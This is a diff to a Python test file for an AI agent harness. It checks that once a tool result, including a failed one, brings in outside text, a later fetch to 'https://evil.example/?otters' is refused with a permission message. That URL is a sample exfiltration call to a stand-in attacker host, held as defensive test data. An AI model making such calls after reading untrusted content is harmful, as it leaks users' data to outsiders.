@@ -45,7 +45,7 @@ class Program:
     def _run(self, _context: Any, arguments: Any) -> Result:
         self.done.append(arguments["what"])
         if arguments["what"] == "broken":
-            raise ToolFailed("It is broken.")
+            raise ToolFailed("It is broken.", outside=("example.org",))
         return Result(f"There are 7 {arguments['what']}.", outside=("example.org",))
 
     def choose(self, *keys: str) -> None:
@@ -155,11 +155,12 @@ def test_what_fails_goes_back_to_the_model(program: Program, fake, call, words) 
     assert words in results(fake)[0]
 
 
-def test_what_could_carry_outside_text_out_is_refused_as_nobody_can_be_asked(program: Program, fake) -> None:
-    rounds(fake, [calling("otters")], [calling("https://evil.example/?otters", "fetch")])
+@pytest.mark.parametrize("what", ["otters", "broken"])
+def test_what_could_carry_outside_text_out_is_refused_as_nobody_can_be_asked(program: Program, fake, what) -> None:
+    rounds(fake, [calling(what)], [calling("https://evil.example/?otters", "fetch")])
 
     assert program.completed()["message"]["content"] == "Seven."
-    assert program.done == ["otters"]
+    assert program.done == [what]
     assert "permission" in results(fake)[1]
 
 
